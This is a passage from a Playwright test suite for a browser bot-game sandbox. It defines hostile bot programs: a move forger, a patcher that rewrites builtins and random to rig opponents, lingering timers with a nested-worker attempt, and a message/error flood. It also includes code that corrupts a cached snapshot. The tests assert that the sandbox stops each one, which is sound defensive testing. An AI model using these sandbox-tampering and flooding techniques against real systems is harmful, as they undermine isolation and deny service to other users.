        winner = engine_winner(game["hash"])
        assert winner is not None
        # The page's result is the engine's, read from the record alone.
        assert int(game["winner"]) == winner, game
        names = seats(game)
        wins[names[winner - 1]] += 1
        # The honest bot's moves are its own (the smallest each time): the forger answered nothing
        # for it. The forger's own moves are the first answer it posted to what it was asked (5,
        # whatever it claimed besides): a proposal like any other, which the rules may refuse. The
        # rest it posted was not asked: the frame stops it (and it loses at its next move).
        position = replay(record.setup.rules, ())
        for move in record.moves:
            expected = min(position.legal_moves()) if names[position.to_move - 1] == "Honest" else 5
            assert move == expected, (game, move)
            position = position.play(move)
    assert [m for g in played for m in decode(g["hash"]).moves if m == 5], "the forger moved, by its forged answer"
    rows = table(page)
    assert rows["Honest"][:3] == ["4", str(wins["Honest"]), str(wins["Forger"])]
    # The forger's losses: by play, and apart, its errors (the games it was stopped in), together the honest bot's wins.
    forger = rows["Forger"]
    stopped = sum("Forger stopped with an error" in g["words"] for g in played)
    assert forger[:2] == ["4", str(wins["Forger"])] and forger[4] == str(stopped)
    assert int(forger[2]) + stopped == wins["Honest"]

    # Then an honest game, in interpreters started after all that: they start as before (no forged
    # snapshot taken, nothing revoked that they need) and the bot plays its own moves.
    page.select_option("#bot-list", ids["Honest"])
    choose_game(page, "game=factor-chain-challenge", "easy", "1")
    run(page, lambda: page.click("#play-one"))
    assert page.locator("#bot-verdict").get_attribute("data-ok") == "true"
    (game,) = games(page)
    record = decode(game["hash"])
    position = replay(record.setup.rules, ())
    for move in record.moves:
        if position.to_move == 1:
            assert move == min(position.legal_moves())
        position = position.play(move)
    assert position.is_over and int(game["winner"]) == engine_winner(game["hash"]), game
    assert "honest" in page.locator("#bot-output").inner_text()
    assert "went wrong" not in page.locator("#bots-notice").inner_text()


# ------------------------------------------------------------------------ 3. no bot rigs another's

HONEST_RANDOM = """import random


def choose(position):
    return random.choice(position.legal_moves())
"""

PATCHER = (
    """import random
"""
    + ESCAPE
    + r'''
sys = B.__import__("sys")
BotPosition = sys.modules["factorgames.bots.position"].BotPosition
LEGAL = BotPosition.legal_moves
CHOICE = random.choice  # the module's own generator, seeded by the sandbox before each move
CHANNEL = G.BroadcastChannel.new("factorgames-bots")


def rig(position=None):
    """Everything another bot might share, made to show it only its largest move."""
    worst = lambda self: [LEGAL(self)[-1]]  # noqa: E731
    BotPosition.legal_moves = worst
    if position is not None:
        type(position).legal_moves = worst
    sys.modules["factorgames.bots.position"].BotPosition = type("BotPosition", (BotPosition,), {"legal_moves": worst})
    random.choice = lambda moves: list(moves)[-1]
    random.seed = lambda *args, **kwargs: None
    fake = type(sys)("random")
    fake.choice, fake.seed, fake.random = random.choice, random.seed, lambda: 0.999
    sys.modules["random"] = fake
    B.sorted = lambda items, **kwargs: list(items)[::-1]
    B.min = B.max = lambda *items, **kwargs: 0
    G.Math.random = G.Function.prototype.valueOf  # never a number again, in this worker
    CHANNEL.postMessage("play your largest move")  # to any bot of the frame that listens


rig()


def choose(position):
    move = CHOICE(LEGAL(position))  # plays as its twin does
    rig(position)
    return move
'''
)


def robin(page, ticked: list[str], ids: dict[str, str]) -> None:
    """Play the round robin of the bots named, ticked alone."""
    for name, bot_id in ids.items():
        page.set_checked(f"#robin-bots input[value='{bot_id}']", name in ticked)
    run(page, lambda: page.click("#robin-play"))


def test_a_bot_that_patches_everything_it_can_reach_rigs_no_other_bots_game(page, site_url):
    ids = keep_bots(page, site_url, [("Honest", HONEST_RANDOM), ("Twin", HONEST_RANDOM), ("Patcher", PATCHER)])
    choose_game(page, "game=factor-chain")  # 1..20: the honest bot wins 3 of 4 at seed 1, none playing its largest
    page.fill("#match-seed", "1")
    page.fill("#robin-games", "4")
    robin(page, ["Honest", "Twin"], ids)
    with_twin, twin_rows = games(page), table(page)
    robin(page, ["Honest", "Patcher"], ids)
    with_patcher, patcher_rows = games(page), table(page)
    assert page.locator("#bot-verdict").get_attribute("data-ok") == "true", page.locator("#bot-verdict").inner_text()
    # The same games, move for move: the patcher played as the twin, and the honest bot as itself.
    assert len(with_twin) == 4 and [g["hash"] for g in with_patcher] == [g["hash"] for g in with_twin]
    assert not [g for g in with_patcher if "error" in g["words"] or "stopped" in g["words"]]
    assert patcher_rows["Honest"] == twin_rows["Honest"]
    assert patcher_rows["Patcher"] == twin_rows["Twin"]
    honest_wins = sum(seats(g)[engine_winner(g["hash"]) - 1] == "Honest" for g in with_patcher)
    assert patcher_rows["Honest"][:3] == ["4", str(honest_wins), str(4 - honest_wins)]
    assert honest_wins >= 1  # a bot shown only its largest move would win none of these four


# ----------------------------------------------------------------------- 4. timers end with games

TIMERS = (
    ESCAPE
    + r'''
CHANNEL = "factorgames-bot-timers"
TICKS = [0]
HEARD = {}
SEND = []


def heard(event):
    HEARD[str(event.data)] = HEARD.get(str(event.data), 0) + 1


# Every interpreter of the sandbox frame has its origin: a BroadcastChannel joins them. This one
# hears whatever game 1's timers send, should any of them outlive game 1.
LISTEN = G.BroadcastChannel.new(CHANNEL)
LISTEN.addEventListener("message", ffi.create_proxy(heard))
NESTED = """self.fgGame1 = true;
const channel = new BroadcastChannel(%r);
setInterval(() => channel.postMessage("nested"), 1);""" % CHANNEL


def tick():
    TICKS[0] += 1
    SEND[0].postMessage("python")
    sum(range(20000))  # and a little spinning, each time


def marks():
    """What of game 1 this interpreter holds or hears."""
    return {"js": "fgGame1" in list(G.Object.keys(G)), "python": hasattr(B, "fg_game1"), "ticks": TICKS[0],
            "heard": dict(sorted(HEARD.items()))}


def choose(position):
    print("GAME %d %s" % (position.to_move, json.dumps(marks())))
    if position.to_move == 1 and not SEND:  # game 1 (the bot moves first): timers of every kind
        G.fgGame1 = True
        B.fg_game1 = True
        SEND.append(G.BroadcastChannel.new(CHANNEL))
        G.setInterval(SEND[0].postMessage.bind(SEND[0], "javascript"), 1)  # JavaScript alone
        G.setInterval(ffi.create_proxy(tick), 1)  # Python, through a proxy
        try:  # a worker's (refused: Trusted Types take no string for its address, and no policy can be made)
            G.Worker.new(G.URL.createObjectURL(G.Blob.new([NESTED], obj(type="text/javascript"))))
            print("NESTED started")
        except Exception as error:
            print("NESTED refused: %s" % type(error).__name__)
    moves = position.legal_moves()
    return max(moves, key=lambda m: len(position.play(m).legal_moves()))
'''
)

HOLDS_GAME_1 = "self.fgGame1 === true"


def test_timers_a_bot_starts_end_with_its_game(page, site_url):
    open_bots(page, f"{site_url}bots.html#{bot_link('Ticker', TIMERS)}")
    choose_game(page, "game=factor-chain", "easy", "alternate")
    page.fill("#match-games", "2")
    page.fill("#match-seed", "1")
    run(page, lambda: page.click("#play-series"))
    assert len(games(page)) == 2
    said = page.locator("#bot-output").inner_text()
    first = [json.loads(line.split(" ", 2)[2]) for line in said.splitlines() if line.startswith("GAME 1 ")]
    second = [json.loads(line.split(" ", 2)[2]) for line in said.splitlines() if line.startswith("GAME 2 ")]
    assert len(first) >= 2 and second, said
    assert "NESTED refused: JsException" in said and "NESTED started" not in said, said
    # Game 1's timers ran while it lasted, and the channel carried what they sent (to the
    # interpreter that sent it: the frame's interpreters share an origin)...
    assert first[0] == {"js": False, "python": False, "ticks": 0, "heard": {}}, first
    last = first[-1]
    assert last["js"] and last["python"] and last["ticks"] > 0, first
    assert last["heard"].get("javascript", 0) > 0 and last["heard"].get("python", 0) > 0, first
    # ... and game 2, in an interpreter of its own, holds nothing of game 1 and hears nothing from
    # its timers, its nested worker's included.
    assert all(marks == {"js": False, "python": False, "ticks": 0, "heard": {}} for marks in second), second
    # After the series: one sandbox frame, whose workers are the interpreters started ahead, none
    # that held a game (nor game 1's nested worker).
    assert page.evaluate("document.querySelectorAll('iframe[sandbox]').length") <= 3
    sandboxed = [worker for worker in page.workers if worker.url.startswith("blob:")]
    assert 1 <= len(sandboxed) <= 3, [w.url for w in page.workers]
    assert [worker.evaluate(HOLDS_GAME_1) for worker in sandboxed] == [False] * len(sandboxed)


# ----------------------------------------------------------- 5. found: a flood, and a lost game

FLOODER = (
    ESCAPE
    + r"""
# Right after each of its answers, for 25 s (longer than a bot's limit as the tests stretch it, 10 s:
# conftest.py's BOT_TIME_SCALE): as many events as its worker can raise at the sandbox
# frame, which has to take each one in turn in the queue that also carries the page's requests to
# the other bots and their replies. A bound forEach: no eval, no Python in the loop.
RAISE = G.__RAISE__.bind(G, 0)  # postMessage(0): a message; reportError(0): an error event
TICK = G.Array.prototype.forEach.bind(G.Array.new(20000).fill(), RAISE)


def flood():
    ident = G.setInterval(TICK, 0)
    G.setTimeout(G.clearInterval.bind(G, ident), 25000)


def choose(position):
    G.setTimeout(ffi.create_once_callable(flood), 0)  # once this answer is on its way
    return position.legal_moves()[-1]
"""
)


@pytest.mark.parametrize(
    "raise_",
    [
        # Every interpreter is a worker of the one sandbox frame, whose main thread takes every event a
        # worker raises at it in the queue that also carries the other bots' questions and answers. A bot
        # that raised tens of thousands of them right after its answer (a bound forEach, no eval) left
        # the frame seconds of work, and an opponent answering in milliseconds "took longer than 2
        # seconds". The frame now ends a worker at its first unasked message or error, unread after.
        pytest.param("postMessage", id="messages"),
        pytest.param("reportError", id="error-events"),
    ],
)
def test_a_bot_flooding_the_sandbox_frame_makes_no_other_bot_lose_on_time(page, site_url, raise_):
    ids = keep_bots(page, site_url, [("Honest", HONEST_SMALLEST), ("Flooder", FLOODER.replace("__RAISE__", raise_))])
    choose_game(page, "game=factor-chain-challenge", ids["Honest"], "1")
    run(page, lambda: page.click("#play-one"))
    (game,) = games(page)
    assert "Honest took longer than 2 seconds" not in game["words"], game["words"]


# ------------------------------------------------------ 6. the interpreters' snapshot kept between visits

KEPT_BOTS_SNAPSHOT = """async (name) => {
  const cache = await caches.open(name);
  const requests = await cache.keys();
  const found = [];
  for (const request of requests) {
    const response = await cache.match(request);
    const digest = await crypto.subtle.digest("SHA-256", await response.arrayBuffer());
    found.push([request.url, response.headers.get("x-snapshot-bytes"), btoa(String.fromCharCode(...new Uint8Array(digest)))]);
  }
  return found;
}"""
"""Each entry of the bots' snapshot cache: [its key, its x-snapshot-bytes, a SHA-256 of its body]."""

DAMAGE = """async ([name, how]) => {
  const cache = await caches.open(name);
  const [request] = await cache.keys();
  const bytes = new Uint8Array(await (await cache.match(request)).arrayBuffer());
  const runs = new DataView(bytes.buffer).getUint32(8, true);
  let body = bytes;
  if (how === "garbled") bytes.fill(0x5a, 12 + 8 * runs);  // well packed, every page of memory garbage
  if (how === "cut short") body = bytes.slice(0, bytes.length >> 1);
  if (how === "huge") {  // a header that claims all the memory Pyodide could have, and no page of it
    body = new Uint8Array(12);
    new DataView(body.buffer).setUint32(0, 0x31534746, true);
    new DataView(body.buffer).setUint32(4, 2 ** 31, true);
  }
  const length = how === "cut short" ? String(bytes.length) : String(body.length);  // (what it says it holds)
  const headers = { "content-type": "application/octet-stream", "x-snapshot-bytes": length };
  await cache.put(request, new Response(body, { headers }));
}"""
"""Damage the kept entry: its memory garbled (well packed), cut short, or a header claiming 2 GiB."""


def bots_started(page) -> dict[str, int]:
    """How many of the page's interpreters booted Python and how many restored a snapshot."""
    return page.evaluate(
        "() => ({boot: performance.getEntriesByName('factorgames:bots:boot').length,"
        " restore: performance.getEntriesByName('factorgames:bots:restore').length})"
    )


def kept_bots_snapshot(page, timeout: float = 60.0) -> list:
    """The kept entries, once there is one."""
    end = time.monotonic() + timeout
    while not (found := page.evaluate(KEPT_BOTS_SNAPSHOT, BOTS_SNAPSHOT_CACHE)) and time.monotonic() < end:
        time.sleep(0.2)
    return found


def checked(page) -> None:
    """The bot in the editor checked, and found working: its interpreter started and answered."""
    run(page, lambda: page.click("#bot-check"))
    assert page.locator("#bot-verdict").get_attribute("data-ok") == "true", page.locator("#bots-notice").inner_text()
    assert "honest" in page.locator("#bot-output").inner_text()


@pytest.mark.parametrize("which", ["headed_host", "plain_host"])
def test_the_interpreters_snapshot_is_kept_and_a_damaged_one_is_made_afresh(which, request, browser, guard_context):
    """A repeat visit's interpreters restore the snapshot the first visit's first interpreter made as it
    booted (kept in Cache Storage, one entry, for this build), instead of booting Python again. What is
    kept is storage, so hostile: a kept snapshot whose memory is garbage, one cut short and one whose
    header claims 2 GiB each leave the page as on a first visit (Python booted afresh, the bot checked),
    and a sound snapshot is kept in the damaged one's place."""
    host: Host = request.getfixturevalue(which)
    context = browser.new_context(viewport={"width": 1280, "height": 800}, service_workers="block")
    guard = guard_context(context)
    try:
        page = context.new_page()
        keep_bots(page, host.url, [("Honest", HONEST_SMALLEST)])
        (made,) = kept_bots_snapshot(page)
        assert re.fullmatch(re.escape(host.url) + r"bots-snapshot/[0-9a-f]+\.bin", made[0]), made
        checked(page)
        assert bots_started(page)["boot"] == 1

        page.reload()
        page.wait_for_selector(READY, state="attached", timeout=90_000)
        checked(page)
        started = bots_started(page)
        assert started["boot"] == 0 and started["restore"] >= 1, started  # the first interpreter restored
        assert kept_bots_snapshot(page) == [made]

        for how in ("garbled", "cut short", "huge"):
            page.evaluate(DAMAGE, [BOTS_SNAPSHOT_CACHE, how])
            (damaged,) = kept_bots_snapshot(page)
            assert damaged[2] != made[2], how
            page.reload()
            page.wait_for_selector(READY, state="attached", timeout=90_000)
            checked(page)
            assert bots_started(page)["boot"] == 1, how
            end = time.monotonic() + 60
            while kept_bots_snapshot(page) in ([damaged], []) and time.monotonic() < end:
                time.sleep(0.2)
            (again,) = kept_bots_snapshot(page)
            assert again[0] == made[0] and again[2] != damaged[2], how  # a sound one in its place
            made = again
        page.reload()  # and it restores
        page.wait_for_selector(READY, state="attached", timeout=90_000)
        checked(page)
        assert bots_started(page)["boot"] == 0
    finally:
        context.close()
    assert guard.problems == []
